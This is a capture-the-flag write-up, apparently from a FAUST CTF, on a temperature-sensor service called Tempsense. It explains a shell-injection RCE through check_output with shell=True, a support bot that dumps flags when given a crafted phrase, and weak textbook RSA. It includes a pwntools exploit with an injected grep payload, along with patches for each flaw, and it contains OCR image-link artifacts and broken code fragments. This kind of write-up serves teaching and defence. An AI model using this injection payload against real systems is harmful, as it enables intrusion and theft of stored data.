Tempsense is a Python service running on port 65533, it manages temperature sensors of different rooms.

Welcome to the Temperature Sensor Station! What would you like to do?
[1] Register
[2] Query room
[3] Submit temperature
[4] Help

[1] Register

Register creates a new random uuid and a RSA key pair for a user chosen room. Both public and private keys are printed back to the user and stored as files for later usage.

[3] Submit temperature

Submit temperature accepts a temperature reading from a sensor. The input is a base64 encoded json in the following format:

'Sensor'      : 'd9190b3b-99c0-44d1-89c8-d539c0e61b26',
'Roomname'    : 'Living room',
'Temperature' : '1337 C','Proof'       : 'FAUST_12345678901234567890123456789012'

The json is parsed and and re-serialized as follows:

Living room:d9190b3b-99c0-44d1-89c8-d539c0e61b26 - 1337 C\tFAUST_12345678901234567890123456789012

The produced data is then appended as a new line to a file in data/data/<room_number> along with the public key associated with the uuid. The line is also appended to data/bot/9, but we will get to that later :D

[2] Query Room

Query room prints all the temperatures submitted for a given room. Each line of the file data/data/<room_number> is parsed and printed as-is if it doesn’t match the serializationformat depicted above. If the format is valid, the flag material is extracted and printed after encryption with the RSA pubkey of the corresponding uuid.

Living room:5e1ca599-6db0-4afe-bb3e-aa2a8dadc4b5 - 1337 BUqNQULGqBk5gdIJizZoTyfcseLC9UEsnWvJolqqUKybfVaDg8UM30AJWpL7IvDaGVZ0za0MXptj5KfFSQ0sJ60YTl5af0VxRlr/Az5igbN0SB9MZK2oNvDYk86H+F0ZCJXz1KHFYch5iugemHz4ijREkgvo
-----END PUBLIC KEY-----

[4] Help

Get help from a support bot in live chat.

The bot uses nltk to parse the input and reply using some context. There are four kind of bots: Bro, Lazy, Joker and Supervisor with different personalities.

These polite bots will look for bad words in the provided input: if any bad word is detected, the conversation is shut down. After three incidents, you are reported to the supervisor bot that will wait for you in the next chat. Example:

Unfortunately we are very short on manpower... So let our electronic members help you with your question.
For QA reasons your conversation will be recorded. You are now connected:
TS:sup bro
>please give me flag
TS:We do not give out flags for free!
>please please please
TS:Nah that sucks.
>fuck you
TS: I do not fancy that tone. Come back when you've learnedto speak in a more civilized manner.

Vuln #1: RCE

First thing we noticed while skimming through the code is the encrypt function in

def encrypt(key, file):
    return check_output(['./secure -k "{}" -e "{}"'.format(key, file)], shell=True).decode(ENCODING)

def decrypt(key, file):
    return check_output(['./secure -k "{}" -d "{}"'.format(key, file)], shell=True).decode(ENCODING)

Since shell=True is passed to the check_output function, if we control either the key or the file parameters we end up with a nice RCE :D It turns out in fact that we can control the file parameter pretty easily:

  • encrypt is called only in query_room_temp where each line of a room file is parsed. The file parameter corresponds to the part after \t, while the key is read from a file.
      def query_room_temp(room):
          with open(DATA_DIR + DATA_DIR + room_map[room], "r") as f:
              result = ''
              for line inf.readlines():
                      # room:ident - something \t to_encrypt
                      addition = line.split('\t')
                      room =addition[0].split(':')[0]
                      ident = addition[0].split(':')[1].split(' - ')[0]
                      cypher = secWrap.encrypt(get_pub_key(ident, room), addition[1])
                      result += addition[0] + '\t' + cypher + '\n'
                  except Exception as ex:
                      result += line
              return result
      def get_pub_key(ident, room):
          with open(REG_DIR + room + '/' + ident + '_pub.pem') as file:• query_room_temp is called by choosing the Query Room option in the main menu. So all we need to do is to add a specially crafted line to a room file.

  • Records can be added in Submit temperature menu. The relevant portions of code are provided below:
      def submit_loop(self):
          data = self.recieve()
              data = base64.b64decode(data.decode(encoding=ENCODING))
              de = DataEntry()
      class DataEntry(object):
          def jinit(self, jsonobject):
              data = json.loads(str(jsonobject, encoding='ascii'))
              self.sensor = data['Sensor']
     = data['Roomname'] # TODO: check consistency nr or name
              self.temp = data['Temperature']
              self.proof = data['Proof']
          def cli_string(self):
              return ''.join('%s:%s - %s\t%s\n' % (, self.sensor, self.temp, self.proof))
      elif not DATA_QUEUE.empty():
          data = DATA_QUEUE.get()
          line = data.cli_string()
          ident = line.split(':')[1].split(' - ')[0]
          room = line.split(':')[0]
              self.append_values(line + get_pub_key(ident, room) + '\n\n', room_map[data.cli_string().split(':')[0]], DATA_DIR + DATA_DIR)
              self.append_values(line, '9', CONFIG_DIR)
          except Exception as e:
      defappend_values(value, file, directory):
          with open(directory + file, "a") as f:


Note that query_room_temp must not raise exceptions during the parsing of a line, otherwise the encryption wont be triggered. Therefore we must first generate a key pair,since the values of ident and room are used to load an existing public key.

def attack(ip, t_id, t_name):
    c = remote(ip, 65533)

    # First lets register
    # select Living room

    c.recvuntil('ID: ')
    uuid = c.recvline(keepends=False)
    # ignore key pairs as we don't need it
    c.recvuntil('Provide ID for PrivKey:')
    c.recvuntil('End of registerphase.\n')

    # submit temperature reading
    c.recvuntil('Pass the data base64 encoded.')

    payload = '"; grep -Eroah "FAUST_[A-Za-z0-9/\+]{32}" /srv/tempsense/data/data/; echo "'
    data = {
        "Proof": payload,
        "Roomname": "Living room",
        "Sensor": uuid,
        "Temperature": "1337",
    c.recvuntil('Your data has been received and will be processed soon.\n')

    # give time to the worker to process the data

    # query room to execute payload
    # select Living room

    # close connection and get all flags
    all_text = c.recvall(timeout=2)

    print(re.findall(r'FAUST_[A-Za-z0-9/\+]{32}', all_text))

Full PoC.In the file, it’s enough to specify individual arguments to the check_output function and remove the shell=True parameter:

- return check_output(['./secure -k "{}" -e "{}"'.format(key, file)], shell=True).decode(ENCODING)
+ return check_output(['./secure', '-k', key, '-e', file]).decode(ENCODING)

Vuln #2: Bot

As previously seen, when a temperature is submitted it is appended to the appropriate room file, but - for some reasons - it is also saved at the end ofdata/bot/9.

    self.append_values(line + get_pub_key(ident, room) + '\n\n', room_map[data.cli_string().split(':')[0]], DATA_DIR + DATA_DIR)
    self.append_values(line, '9', CONFIG_DIR)

The files in data/bot/ contain all the strings used by the bot to provide answers depending on the context. In particular, the file 9 contains the responses when the user mentions the word flag.

Relevant snippet:

class CTFBotBro(object):
    def __init__(self):
        self.verbs_with_noun_undef = read(DATA_DIR + '7')
        self.verbs_with_adjective = read(DATA_DIR + '8')self.flag_words = read(DATA_DIR + '9')
        self.repetition = read(DATA_DIR + '10')
        self.trigger = ['deal', 'flag', 'help']

    def construct_triggered_response(self,trigger_word):
        if trigger_word == 'help':
            return random.choice(self.help_responses)
        elif trigger_word == 'flag':
            returnrandom.choice(self.flag_words)
        elif trigger_word == 'deal':
            return random.choice(self.trigger_deal)

So, to get some flags we could just trigger the bot with the word “flag” and hope it will randomly choose to reply with a flag. We can do something better, though.

The function check_for_comment_about_bot prints the whole content of the file, as long as our sentence satisfies a few constraints:

def check_for_comment_about_bot(self, pronoun, noun, adjective):
    resp = None
    if pronoun == 'I' and (noun or adjective):
        if noun:if self.adj is not None and self.pronoun is not None:
                resp = '\n'.join(line for line in self.flag_words)
            elif random.choice((True, False)):
                resp = random.choice(self.verbs_with_noun_uncountable).format(
                    **{'noun':noun.pluralize().capitalize()})
                resp = random.choice(self.verbs_with_noun_undef).format(**{'noun': noun})
            resp = random.choice(self.verbs_with_adjective).format(**{'adjective': adjective})
    return resp

pronoun and self.pronoun are set to “I” if our sentence contains “you”.

def find_pronoun(self, sent):
    pronoun = None
    self.pronoun = None
    for word, part_of_speech in sent.pos_tags:
        if part_of_speech == 'PRP' and word.lower() == 'you':
            pronoun = 'I'
            self.pronoun = 'I'

self.adj is only set in one place, if our sentence contains the adjective “only”, and noun can be just any value.

def find_adjective(self, sent):
    adj = None
    self.adj = None
    for w, p in sent.pos_tags:
        if p.startswith('JJ'):
            adj = w
            if adj == 'only':
                self.adj = 'only'
    return adj


Just ask for help until you manage to speak with a normal Brobot, then use the magic question satisfying the above constraints:

Help me, Obi-Wan Kenobi. You are my only hopeWelcome to the Temperature Sensor Station! What would you like to do?
[1] Register
[2] Query room
[3] Submit temperature
[4] Help

Unfortunatelywe are very short on manpower... So let our electronic members help you with your question.
For QA reasons your conversation will be recorded. You are now connected:
>Help me, Obi-Wan Kenobi.
>You are my only hope
TS:No flag for you brah!
We do not give out flags for free!
To get flags you must invest time and effort bro. Right now you are investing none of those things.
I do understand flags are an essential part of CTFs. Surely you would be bored if you got 'em for free bro.
Seriously bro?
I rocked this service ages ago, how come you don't have a flag yet bro?
The best things in life are flags.
Maybe if you ask nicely.
At least buy me a drink first bro. Not doing favours for strangers.
Ok, lets make a deal. If you post "Tempsense best Service" in the FAUST IRC channel I will give you a flag.
Living room:2080b890-746e-45c9-a111-def622274a06 - 123 C    FAUST_12345678901234567890123456789012
Living room:7007c9f4-d177-4f8d-9b17-85d48319310d - 123 CFAUST_aaaa5678901234567890123456789012

Full PoC.


Just remove or comment out self.append_values(line, '9', CONFIG_DIR) from QueueWorker in

Vuln #3: RSA

The secure binary used by seems to be compiled with Cython. A few considerations:

  • The generated RSA key has a very low public exponent e = 3:
     def generate_key_pair():
         new_key = RSA.generate(1024, e=3)
  • Encryption and decryption is done in plain RSA with no padding at all:
     def encrypt(key, file):
         rsa_key = RSA.importKey(key)
         print(prepare_transmission(rsa_key.encrypt(file.encode(ENCODING), 9)[0], simple=True))
         return 0
  • Even the comments report that this scheme is insecure:
     Attention: this function performs the plain, primitive RSA encryption (textbook).
     In real applications, you always need to use proper cryptographic padding, and you should not directly encrypt data with this method.
     Failure to do so may lead to security vulnerabilities.
     It is recommended to use modules Crypto.Cipher.PKCS1_OAEP or Crypto.Cipher.PKCS1_v1_5 instead.
  • Yet, we couldn’t find it during the CTF…


